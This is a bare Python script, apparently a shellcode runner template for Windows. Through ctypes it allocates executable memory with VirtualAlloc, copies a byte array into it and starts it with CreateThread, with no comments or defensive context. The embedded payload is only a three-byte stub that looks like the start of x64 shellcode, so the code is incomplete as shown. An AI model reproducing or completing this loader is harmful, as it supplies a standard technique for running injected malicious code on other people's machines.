import ctypes

print("x")
code = bytearray(b"\xfc\x48\x83")
place = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(place, bytes(code), len(code))
ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)
